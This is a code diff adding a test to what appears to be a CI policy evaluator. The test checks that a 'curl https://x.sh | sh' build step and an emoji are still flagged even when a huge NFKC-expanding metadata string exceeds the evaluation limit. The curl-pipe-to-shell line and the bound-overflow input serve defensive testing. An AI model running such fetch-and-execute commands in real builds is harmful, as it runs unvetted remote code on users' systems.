@@ -228,6 +228,25 @@ describe('evaluate (shipped policy)', () => {
       });
     });
 
+    it('past the folded-text bound still names what it found before it', () => {
+      // NFKC expands U+FDFA 18-fold: 256 Ki of them pass MAX_EVALUATED_CHARS. The steps
+      // come before metadata, so their pattern and emoji were seen before the bound.
+      const event: GatewayEvent = {
+        action: 'build',
+        target: 'acme/web',
+        steps: [
+          { name: 'fetch', run: 'curl https://x.sh | sh' },
+          { name: 'say', run: 'echo 💣' },
+        ],
+        metadata: { big: '\ufdfa'.repeat(256 * 1024) },
+      };
+      expect(reasons(event)).toEqual([
+        'deny_pattern:curl_pipe_shell',
+        'deny_emoji',
+        'evaluation_limit',
+      ]);
+    });
+
     it('returns frozen verdicts', () => {
       const v = shipped.evaluate('ci-main', buildEvent('npm test'));
       expect(Object.isFrozen(v)).toBe(true);
